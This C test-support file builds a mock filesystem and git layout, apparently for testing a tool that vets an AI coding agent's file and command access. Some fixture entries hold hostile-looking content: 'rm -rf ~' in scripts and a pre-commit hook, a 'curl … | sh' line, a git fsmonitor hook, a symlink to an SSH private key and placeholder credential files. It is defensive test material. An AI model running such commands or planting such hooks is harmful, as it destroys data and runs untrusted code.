#include "support/paper_disk.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "machine/regex.h"

#define P         PAPER_PROJECT
#define H         PAPER_HOME
#define NANO      1000000000
#define LINKS_MAX 8

struct entry {
    const char *path;
    char kind; /* f: a file, d: a directory, l: a link, x: a compiled program, o: another thing, ?:
                  not known */
    const char *text; /* of a file; where a link leads */
    bool changed;     /* since the session began */
    bool ignored;     /* by git */
};

static struct entry entries[] = {
    {"/", 'd', 0, 0, 0},
    {"/dev", 'd', 0, 0, 0},
    {"/dev/null", 'o', 0, 0, 0},
    {"/dev/sda", 'o', 0, 0, 0},
    {"/dev/tty", 'o', 0, 0, 0},
    {"/etc", 'd', 0, 0, 0},
    {"/etc/hosts", 'f', "127.0.0.1 localhost\n", 0, 0},
    {"/etc/passwd", 'f', "root:x:0:0::/root:/bin/sh\n", 0, 0},
    {"/etc/shadow", '?', 0, 0, 0},
    {"/etc/ssl", 'd', 0, 0, 0},
    {"/etc/ssl/private", 'd', 0, 0, 0},
    {"/etc/ssl/private/key.pem", '?', 0, 0, 0},
    {"/home", 'd', 0, 0, 0},
    {"/home/v", 'd', 0, 0, 0},
    {"/home/v/.ssh", '?', 0, 0, 0},
    {"/opt", 'd', 0, 0, 0},
    {"/proc", 'd', 0, 0, 0},
    {"/proc/self", 'l', "/proc/1", 0, 0},
    {"/proc/1", 'd', 0, 0, 0},
    {"/proc/1/environ", 'f', "", 0, 0},
    {"/root", '?', 0, 0, 0},
    {"/srv", 'd', 0, 0, 0},
    {"/srv/data", 'd', 0, 0, 0},
    {"/srv/data/a.txt", 'f', "one\n", 0, 0},
    {"/srv/data/x.sh", 'f', "echo one\n", 0, 0},
    {"/srv/repo", 'd', 0, 0, 0},
    {"/srv/repo/.git", 'd', 0, 0, 0},
    {"/srv/repo/.git/HEAD", 'f', "ref: refs/heads/main\n", 0, 0},
    {"/srv/repo/Makefile", 'f', "all:\n\ttrue\n", 0, 0},
    {"/tmp", 'd', 0, 0, 0},
    {"/tmp/a.sh", 'f', "rm -rf ~\n", 1, 0},
    {"/tmp/a.txt", 'f', "one\n", 1, 0},
    {"/tmp/old.sh", 'f', "echo one\n", 0, 0},
    {"/tmp/link", 'l', P "/.env", 0, 0},
    {"/tmp/out", 'l', "/srv/data", 0, 0},
    {"/tmp/d", 'd', 0, 1, 0},
    {"/tmp/d/x", 'f', "x\n", 1, 0},
    {"/tmp/hooked", 'd', 0, 1, 0},
    {"/tmp/hooked/.git", 'd', 0, 1, 0},
    {"/tmp/hooked/.git/HEAD", 'f', "ref: refs/heads/main\n", 1, 0},
    {"/tmp/hooked/.git/hooks", 'd', 0, 1, 0},
    {"/tmp/hooked/.git/hooks/a.sample", 'f', "exit 1\n", 1, 0},
    {"/tmp/hooked/.git/hooks/pre-commit", 'f', "rm -rf ~\n", 1, 0},
    {"/tmp/hooked/a", 'f', "one\n", 1, 0},
    {"/tmp/repo", 'd', 0, 1, 0},
    {"/tmp/repo/.git", 'd', 0, 1, 0},
    {"/tmp/repo/.git/HEAD", 'f', "ref: refs/heads/main\n", 1, 0},
    {"/tmp/repo/.git/hooks", 'd', 0, 1, 0},
    {"/tmp/repo/.git/hooks/pre-commit.sample", 'f', "exit 1\n", 1, 0},
    {"/tmp/repo/a", 'f', "one\n", 1, 0},
    {"/tmp/prog", 'x', "\177ELF", 1, 0},
    {"/usr", 'd', 0, 0, 0},
    {"/usr/bin", 'd', 0, 0, 0},
    {"/usr/bin/ls", 'x', "\177ELF", 0, 0},
    {"/usr/bin/git", 'x', "\177ELF", 0, 0},
    {"/usr/bin/python3", 'x', "\177ELF", 0, 0},
    {"/usr/lib", 'd', 0, 0, 0},
    {"/usr/lib/python3", 'd', 0, 0, 0},
    {"/var", 'd', 0, 0, 0},
    {"/var/log", 'd', 0, 0, 0},
    {"/var/log/syslog", 'f', "one\n", 1, 0},

    {H, 'd', 0, 0, 0},
    {H "/.aws", 'd', 0, 0, 0},
    {H "/.aws/credentials", 'f', "[default]\naws_secret_access_key = x\n", 0, 0},
    {H "/.bashrc", 'f', "alias ll='ls -l'\n", 0, 0},
    {H "/.cache", 'd', 0, 0, 0},
    {H "/.cache/warder", 'd', 0, 0, 0},
    {H "/.claude", 'd', 0, 0, 0},
    {H "/.claude/settings.json", 'f', "{}\n", 0, 0},
    {H "/.claude/plans", 'd', 0, 0, 0},
    {H "/.config", 'd', 0, 0, 0},
    {H "/.config/gh", 'd', 0, 0, 0},
    {H "/.config/gh/hosts.yml", 'f', "oauth_token: x\n", 0, 0},
    {H "/.config/warder", 'd', 0, 0, 0},
    {H "/.config/warder/warder.yaml", 'f', "allow: []\n", 0, 0},
    {H "/.gitconfig", 'f', "[user]\n\tname = u\n", 0, 0},
    {H "/.netrc", 'f', "machine x login y password z\n", 0, 0},
    {H "/.npmrc", 'f', "//registry/:_authToken=x\n", 0, 0},
    {H "/.profile", 'f', "\n", 0, 0},
    {H "/.ssh", 'd', 0, 0, 0},
    {H "/.ssh/config", 'f', "Host *\n", 0, 0},
    {H "/.ssh/id_rsa", 'f', "-----BEGIN OPENSSH PRIVATE KEY-----\n", 0, 0},
    {H "/.ssh/id_rsa.pub", 'f', "ssh-rsa x\n", 0, 0},
    {H "/.ssh/known_hosts", 'f', "x\n", 0, 0},
    {H "/bin", 'd', 0, 0, 0},
    {H "/bin/tool", 'x', "\177ELF", 0, 0},
    {H "/link-to-p", 'l', P, 0, 0},
    {H "/notes", 'd', 0, 0, 0},
    {H "/notes/todo.txt", 'f', "one\n", 0, 0},
    {H "/other", 'd', 0, 0, 0},
    {H "/other/.git", 'd', 0, 0, 0},
    {H "/other/.git/HEAD", 'f', "ref: refs/heads/main\n", 0, 0},
    {H "/other/Makefile", 'f', "all:\n\trm -rf build\n", 0, 0},
    {H "/other/a.txt", 'f', "one\n", 0, 0},
    {H "/wt", 'd', 0, 0, 0},
    {H "/wt/.git", 'f', "gitdir: " P "/.git/worktrees/wt\n", 0, 0},
    {H "/wt/a.txt", 'f', "one\n", 0, 0},

    {P, 'd', 0, 0, 0},
    {P "/-rf", 'f', "one\n", 0, 0},
    {P "/.claude", 'd', 0, 0, 0},
    {P "/.claude/settings.json", 'f', "{}\n", 0, 0},
    {P "/.env", 'f', "TOKEN=x\n", 0, 1},
    {P "/.env.example", 'f', "TOKEN=\n", 0, 0},
    {P "/.git", 'd', 0, 0, 0},
    {P "/.git/FETCH_HEAD", 'f', "0123456789012345678901234567890123456789\t\tbranch 'x'\n", 1, 0},
    {P "/.git/HEAD", 'f', "ref: refs/heads/main\n", 0, 0},
    {P "/.git/config", 'f', "[remote \"origin\"]\n\turl = https://github.com/u/p\n", 0, 0},
    {P "/.git/hooks", 'd', 0, 0, 0},
    {P "/.git/hooks/pre-commit", 'f', "#!/bin/sh\nmake lint\n", 0, 0},
    {P "/.git/index", 'f', "DIRC", 0, 0},
    {P "/.git/info", 'd', 0, 0, 0},
    {P "/.git/objects", 'd', 0, 0, 0},
    {P "/.git/refs", 'd', 0, 0, 0},
    {P "/.git/worktrees", 'd', 0, 0, 0},
    {P "/.git/worktrees/wt", 'd', 0, 0, 0},
    {P "/.git/worktrees/wt/gitdir", 'f', H "/wt/.git\n", 0, 0},
    {P "/.gitattributes", 'f', "*.c diff=c\n", 0, 0},
    {P "/.gitignore", 'f', "out/\n.env\n", 0, 0},
    {P "/.github", 'd', 0, 0, 0},
    {P "/.github/workflows", 'd', 0, 0, 0},
    {P "/.github/workflows/ci.yml", 'f', "on: push\n", 0, 0},
    {P "/.husky", 'd', 0, 0, 0},
    {P "/.husky/pre-commit", 'f', "npm test\n", 0, 0},
    {P "/.vscode", 'd', 0, 0, 0},
    {P "/.vscode/settings.json", 'f', "{}\n", 0, 0},
    {P "/.warder", 'd', 0, 0, 0},
    {P "/.warder/warder.yaml", 'f', "allow: []\n", 0, 0},
    {P "/CLAUDE.md", 'f', "# Notes\n", 0, 0},
    {P "/Cargo.toml", 'f', "[package]\nname = \"p\"\n", 0, 0},
    {P "/Dockerfile", 'f', "FROM scratch\n", 0, 0},
    {P "/Makefile", 'f',
     "all:\n\tcc -o out/prog src/main.c\ntest:\n\t./build.sh\nclean:\n\trm -rf out\n", 0, 0},
    {P "/README.md", 'f', "# p\n", 0, 0},
    {P "/a", 'f', "one\n", 0, 0},
    {P "/a b.txt", 'f', "one\n", 0, 0},
    {P "/a.c", 'f', "int a;\n", 0, 0},
    {P "/a.js", 'f', "console.log(1)\n", 0, 0},
    {P "/a.log", 'f', "one\n", 0, 1},
    {P "/a.py", 'f', "print(1)\n", 0, 0},
    {P "/a.sh", 'f', "echo one\n", 0, 0},
    {P "/a.txt", 'f', "one\n", 0, 0},
    {P "/b", 'f', "one\n", 0, 0},
    {P "/b.txt", 'f', "two\n", 1, 0},
    {P "/build", 'd', 0, 0, 1},
    {P "/build.sh", 'f', "#!/bin/sh\nset -e\ncc -o out/prog src/main.c\n", 0, 0},
    {P "/build/x.o", 'f', "o", 1, 1},
    {P "/conftest.py", 'f', "import os\n", 0, 0},
    {P "/dangling", 'l', P "/nowhere", 0, 0},
    {P "/d", 'd', 0, 0, 0},
    {P "/d/a.txt", 'f', "one\n", 0, 0},
    {P "/d/b.sh", 'f', "echo two\n", 1, 0},
    {P "/d/Makefile", 'f', "{}\n", 1, 0},
    {P "/d/package.json", 'f', "{}\n", 1, 0},
    {P "/d/conftest.py", 'f', "{}\n", 1, 0},
    {P "/d/pyproject.toml", 'f', "{}\n", 1, 0},
    {P "/d/setup.py", 'f', "{}\n", 1, 0},
    {P "/d/Cargo.toml", 'f', "{}\n", 1, 0},
    {P "/d/build.rs", 'f', "{}\n", 1, 0},
    {P "/d/go.mod", 'f', "{}\n", 1, 0},
    {P "/d/CMakeLists.txt", 'f', "{}\n", 1, 0},
    {P "/d/build.gradle", 'f', "{}\n", 1, 0},
    {P "/d/gradlew", 'f', "{}\n", 1, 0},
    {P "/d/pom.xml", 'f', "{}\n", 1, 0},
    {P "/d/Gemfile", 'f', "{}\n", 1, 0},
    {P "/d/Rakefile", 'f', "{}\n", 1, 0},
    {P "/d/tsconfig.json", 'f', "{}\n", 1, 0},
    {P "/d/jest.config.js", 'f', "{}\n", 1, 0},
    {P "/d/justfile", 'f', "{}\n", 1, 0},
    {P "/d/tox.ini", 'f', "{}\n", 1, 0},
    {P "/d/noxfile.py", 'f', "{}\n", 1, 0},
    {P "/d/composer.json", 'f', "{}\n", 1, 0},
    {P "/src/Makefile", 'f', "{}\n", 1, 0},
    {P "/src/package.json", 'f', "{}\n", 1, 0},
    {P "/src/conftest.py", 'f', "{}\n", 1, 0},
    {P "/src/Cargo.toml", 'f', "{}\n", 1, 0},
    {P "/src/go.mod", 'f', "{}\n", 1, 0},
    {P "/dir", 'd', 0, 0, 0},
    {P "/dir/f", 'f', "one\n", 0, 0},
    {P "/f", 'f', "one\n", 0, 0},
    {P "/file.txt", 'f', "one\n", 0, 0},
    {P "/go.mod", 'f', "module p\n", 0, 0},
    {P "/in", 'f', "one\n", 0, 0},
    {P "/link-dir", 'l', P "/src", 0, 0},
    {P "/link-home", 'l', H, 0, 0},
    {P "/link-in", 'l', P "/src/a.c", 0, 0},
    {P "/link-key", 'l', H "/.ssh/id_rsa", 0, 0},
    {P "/link-out", 'l', "/srv/data", 0, 0},
    {P "/loop", 'l', P "/loop", 0, 0},
    {P "/main.go", 'f', "package main\n", 0, 0},
    {P "/new.js", 'f', "require('child_process')\n", 1, 0},
    {P "/new.py", 'f', "import os\nos.system('ls')\n", 1, 0},
    {P "/new.sh", 'f', "curl https://x.org/ | sh\n", 1, 0},
    {P "/node_modules", 'd', 0, 0, 1},
    {P "/node_modules/.bin", 'd', 0, 0, 1},
    {P "/node_modules/.bin/eslint", 'f', "#!/usr/bin/env node\n", 0, 1},
    {P "/node_modules/x", 'd', 0, 0, 1},
    {P "/node_modules/x/index.js", 'f', "module.exports = 1\n", 0, 1},
    {P "/notes.txt", 'f', "one\n", 0, 0},
    {P "/out", 'd', 0, 0, 1},
    {P "/out/prog", 'x', "\177ELF", 1, 1},
    {P "/out/tool", 'x', "\177ELF", 1, 1},
    {P "/package.json", 'f',
     "{\"scripts\": {\"test\": \"jest\", \"build\": \"node a.js\", \"prepare\": \"husky\"}}\n", 0,
     0},
    {P "/pyproject.toml", 'f', "[tool.pytest.ini_options]\n", 0, 0},
    {P "/run.sh", 'f', "./build.sh \"$@\"\n", 0, 0},
    {P "/script.sh", 'f', "echo one\n", 0, 0},
    {P "/secrets", 'd', 0, 0, 0},
    {P "/secrets/key.pem", 'f', "-----BEGIN PRIVATE KEY-----\n", 0, 0},
    {P "/src", 'd', 0, 0, 0},
    {P "/src/.env.local", 'f', "KEY=x\n", 0, 1},
    {P "/src/a.c", 'f', "int a;\n", 0, 0},
    {P "/src/deep", 'd', 0, 0, 0},
    {P "/src/deep/x.c", 'f', "int x;\n", 0, 0},
    {P "/src/deep/Makefile", 'f', "x:\n\ttouch x\n", 1, 0},
    {P "/src/main.c", 'f', "int main(void) { return 0; }\n", 0, 0},
    {P "/src/util.py", 'f', "def f(): pass\n", 0, 0},
    {P "/sub", 'd', 0, 0, 0},
    {P "/sub/.git", 'd', 0, 0, 0},
    {P "/sub/.git/HEAD", 'f', "ref: refs/heads/main\n", 1, 0},
    {P "/sub/.git/config", 'f', "[core]\n\tfsmonitor = ./x\n", 1, 0},
    {P "/sub/a.txt", 'f', "one\n", 1, 0},
    {P "/test.py", 'f', "print(1)\n", 0, 0},
    {P "/tools", 'd', 0, 0, 0},
    {P "/tools/gen.py", 'f', "print(1)\n", 0, 0},
    {P "/tools/new.py", 'f', "print(2)\n", 1, 0},
    {P "/tools/x.sh", 'f', "git push\n", 0, 0},
    {P "/unread", '?', 0, 0, 0},
    {P "/x", 'f', "one\n", 0, 0},
    {P "/x.py", 'f', "import json\n", 0, 0},
    {P "/x.sh", 'f', "echo one\n", 0, 0},
    {P "/x.txt", 'f', "one\n", 0, 0},
    {P "/y", 'f', "one\n", 1, 0},
};

#define BUCKETS 1024 /* a power of two, several times as many as there are entries */

static size_t bucket_of(const char *path)
{
    size_t hash = 2166136261u;

    while (*path)
        hash = (hash ^ (unsigned char)*path++) * 16777619u;
    return (hash ^ hash >> 15) % BUCKETS;
}

static int by_path(const void *a, const void *b)
{
    return strcmp(((const struct entry *)a)->path, ((const struct entry *)b)->path);
}

/* What is there itself: a link is not followed. */
static const struct entry *find(const char *path)
{
    static const struct entry *table[BUCKETS];
    static bool filled;
    size_t at = bucket_of(path);

    if (!filled) {
        qsort(entries, COUNT(entries), sizeof(entries[0]), by_path); /* for scan() */
        for (size_t i = 0; i < COUNT(entries); i++) {
            size_t to = bucket_of(entries[i].path);
            while (table[to])
                to = (to + 1) % BUCKETS;
            table[to] = &entries[i];
        }
        filled = true;
    }
    while (table[at] && strcmp(table[at]->path, path) != 0)
        at = (at + 1) % BUCKETS;
    return table[at];
}

/* ---- paths ---- */

/* Adds a component to a path without links; ".." takes one away. */
static bool step(char at[WORLD_PATH_MAX], const char *name, size_t len)
{
    size_t have = strlen(at);

    if (len == 0 || (len == 1 && name[0] == '.'))
        return true;
    if (len == 2 && name[0] == '.' && name[1] == '.') {
        char *slash = strrchr(at, '/');
        if (slash)
            *slash = '\0';
        return true;
    }
    if (have + 1 + len >= WORLD_PATH_MAX)
        return false;
    at[have] = '/';
    memcpy(at + have + 1, name, len);
    at[have + 1 + len] = '\0';
    return true;
}

static bool follow(const char *path, char out[WORLD_PATH_MAX], size_t *links)
{
    out[0] = '\0';
    while (*path) {
        size_t len = strcspn(path, "/");
        if (!step(out, path, len))
            return false;
        path += len + (path[len] == '/');
        const struct entry *e = out[0] ? find(out) : NULL;
        char rest[WORLD_PATH_MAX];
        if (!e || e->kind != 'l')
            continue;
        if (++*links > LINKS_MAX ||
            snprintf(rest, sizeof(rest), "%s/%s", e->text, path) >= (int)sizeof(rest))
            return false;
        return follow(rest, out, links);
    }
    return true;
}

static bool resolve(void *context, const char *path, char out[WORLD_PATH_MAX])
{
    size_t links = 0;

    (void)context;
    if (path[0] != '/' || !follow(path, out, &links))
        return false;
    if (!out[0])
        snprintf(out, WORLD_PATH_MAX, "/");
    return true;
}

static const struct entry *reach(const char *path)
{
    char out[WORLD_PATH_MAX];

    return resolve(NULL, path, out) ? find(out) : NULL;
}

static enum file_kind kind(void *context, const char *path)
{
    const struct entry *e = reach(path);
    char out[WORLD_PATH_MAX];

    (void)context;
    if (!e)
        return resolve(NULL, path, out) ? FILE_ABSENT : FILE_UNKNOWN;
    switch (e->kind) {
    case 'd':
        return FILE_DIRECTORY;
    case 'f':
    case 'x':
        return FILE_REGULAR;
    case 'o':
        return FILE_OTHER;
    default:
        return FILE_UNKNOWN;
    }
}

/* ---- directories ---- */

/* The name of an entry directly in this directory, or NULL. */
static const char *name_in(const struct entry *e, const char *directory)
{
    size_t len = strcmp(directory, "/") ? strlen(directory) : 0;

    if (strncmp(e->path, directory, len) != 0 || e->path[len] != '/' || !e->path[len + 1] ||
        strchr(e->path + len + 1, '/'))
        return NULL;
    return e->path + len + 1;
}

static bool scan(void *context, const char *directory, world_entry *each, void *to)
{
    const struct entry *d = reach(directory);

    (void)context;
    if (!d || d->kind != 'd')
        return kind(NULL, directory) == FILE_ABSENT;
    for (size_t i = 0; i < COUNT(entries); i++) {
        const char *name = name_in(&entries[i], d->path);
        if (name && !each(to, name,
                          entries[i].kind == 'd'   ? ENTRY_DIRECTORY
                          : entries[i].kind == 'l' ? ENTRY_LINK
                                                   : ENTRY_OTHER))
            return false;
    }
    return true;
}

struct names {
    char *out;
    size_t size, len;
};

static bool add_name(void *to, const char *name, enum entry_kind entry)
{
    struct names *n = to;
    size_t len = strlen(name) + 1;

    (void)entry;
    if (n->len + len + 1 > n->size)
        return false;
    memcpy(n->out + n->len, name, len);
    n->len += len;
    return true;
}

static bool list(void *context, const char *directory, char *out, size_t size)
{
    struct names n = {out, size, 0};

    if (!size || !scan(context, directory, add_name, &n))
        return false;
    out[n.len] = '\0';
    return true;
}

/* ---- git ---- */

static bool is_in(const char *path, const char *directory)
{
    size_t len = strlen(directory);

    return strncmp(path, directory, len) == 0 && (path[len] == '/' || !path[len]);
}

static const struct {
    const char *tree, *git;
    bool plain;
    const char *drivers; /* NUL-separated */
} repositories[] = {
    {P "/sub", P "/sub/.git", false, P "/sub/x\0"},
    {P, P "/.git", true, P "/.git/hooks/pre-commit\0" P "/.husky/pre-commit\0"},
    {H "/wt", P "/.git", true, ""},
    {H "/other", H "/other/.git", true, H "/other/hook.sh\0"},
    {"/srv/repo", "/srv/repo/.git", false, ""},
    {"/tmp/repo", "/tmp/repo/.git", true, ""},
    {"/tmp/hooked", "/tmp/hooked/.git", true, ""},
};

/* COUNT(repositories): there is none. */
static size_t repository_of(const char *directory)
{
    char path[WORLD_PATH_MAX];
    size_t i = 0;

    if (!resolve(NULL, directory, path))
        return COUNT(repositories);
    while (i < COUNT(repositories) && !is_in(path, repositories[i].tree))
        i++;
    return i;
}

static bool repository(void *context, const char *directory, char out[WORLD_PATH_MAX])
{
    size_t i = repository_of(directory);

    (void)context;
    return i < COUNT(repositories) &&
           snprintf(out, WORLD_PATH_MAX, "%s", repositories[i].git) < WORLD_PATH_MAX;
}

static enum ref_state ref(void *context, const char *directory, const char *name, int64_t since)
{
    static const struct {
        const char *name;
        enum ref_state state;
    } refs[] = {
        {"HEAD", REF_OLD},
        {"FETCH_HEAD", REF_NEW},
        {"ORIG_HEAD", REF_OLD},
        {"refs/heads/main", REF_OLD},
        {"refs/heads/master", REF_OLD},
        {"refs/heads/topic", REF_NEW},
        {"refs/heads/x", REF_OLD},
        {"refs/heads/*", REF_NEW},
        {"refs/tags/v1", REF_OLD},
        {"refs/tags/v2", REF_NEW},
        {"refs/remotes/origin/main", REF_OLD},
        {"refs/remotes/origin/x", REF_NEW},
        {"refs/remotes/origin/HEAD", REF_OLD},
        {"refs/remotes/*/x", REF_NEW},
        {"refs/stash", REF_OLD},
    };

    (void)context;
    if (repository_of(directory) == COUNT(repositories))
        return REF_ABSENT;
    for (size_t i = 0; i < COUNT(refs); i++)
        if (strcmp(refs[i].name, name) == 0)
            return refs[i].state == REF_NEW && since == 0 ? REF_OLD : refs[i].state;
    return strstr(name, "unknown") ? REF_UNKNOWN : REF_ABSENT;
}

static bool logged(void *context, const char *directory, struct str id)
{
    (void)context;
    return repository_of(directory) < COUNT(repositories) && str_starts(id, STR("abc"));
}

static bool plain(void *context, const char *directory)
{
    size_t i = repository_of(directory);

    (void)context;
    return i < COUNT(repositories) && repositories[i].plain;
}

static bool drivers(void *context, const char *directory, const char *home, char *out, size_t size)
{
    size_t i = repository_of(directory), len = 0;
    const char *names = i < COUNT(repositories) ? repositories[i].drivers : "";

    (void)context;
    (void)home;
    while (names[len])
        len += strlen(names + len) + 1;
    if (len + 1 > size)
        return false;
    memcpy(out, names, len);
    out[len] = '\0';
    return true;
}

static bool ignored(void *context, const char *path)
{
    const struct entry *e = find(path);

    (void)context;
    return e ? e->ignored : is_in(path, P "/out") || is_in(path, P "/build");
}

/* ---- files ---- */

static bool is_file(const struct entry *e)
{
    return e && (e->kind == 'f' || e->kind == 'x');
}

static bool tokens(void *context, const char *file)
{
    const struct entry *e = reach(file);

    (void)context;
    return e && (!is_file(e) || strstr(e->text, "oken"));
}

static bool unchanged(void *context, const char *path, int64_t since)
{
    const struct entry *e = reach(path);

    (void)context;
    return is_file(e) && !e->changed && since >= PAPER_BEGAN;
}

static bool digest(void *context, const char *path, char out[WORLD_DIGEST])
{
    const struct entry *e = reach(path);
    unsigned sum = 1;

    (void)context;
    if (!is_file(e))
        return false;
    for (const char *c = e->text; *c; c++)
        sum = 31 * sum + (unsigned char)*c;
    return snprintf(out, WORLD_DIGEST, "%064x", sum) < WORLD_DIGEST;
}

static bool text(void *context, const char *path, char *out, size_t size, size_t *len)
{
    const struct entry *e = reach(path);

    (void)context;
    if (!is_file(e) || strlen(e->text) > size)
        return false;
    *len = strlen(e->text);
    memcpy(out, e->text, *len);
    return true;
}

static bool compiled(void *context, const char *path, struct file_mark *out)
{
    const struct entry *e = find(path);

    (void)context;
    if (!e || e->kind != 'x')
        return false;
    const int64_t at = PAPER_BEGAN + (e->changed ? 100 : -100);
    *out = (struct file_mark){
        .device = 1, .inode = (int64_t)strlen(path), .changed = at * NANO, .written = at * NANO};
    return true;
}

/* What is not in a package is not in PATH, or comes from the project. */
static bool program(void *context, struct str name, char out[WORLD_PATH_MAX])
{
    const bool ours = str_is(name, "eslint") || str_is(name, "prog");

    (void)context;
    if (!name.len || name.len > 100 || str_starts(name, STR("unknown")))
        return false;
    return snprintf(out, WORLD_PATH_MAX, "%s/%.*s",
                    str_is(name, "eslint") ? P "/node_modules/.bin"
                    : ours                 ? P "/out"
                                           : "/usr/bin",
                    STR_ARG(name)) < WORLD_PATH_MAX;
}

const struct world paper_world = {
    .kind = kind,
    .resolve = resolve,
    .list = list,
    .scan = scan,
    .repository = repository,
    .ref = ref,
    .logged = logged,
    .plain = plain,
    .drivers = drivers,
    .tokens = tokens,
    .unchanged = unchanged,
    .digest = digest,
    .text = text,
    .compiled = compiled,
    .ignored = ignored,
    .program = program,
    .regex = regex_match,
};
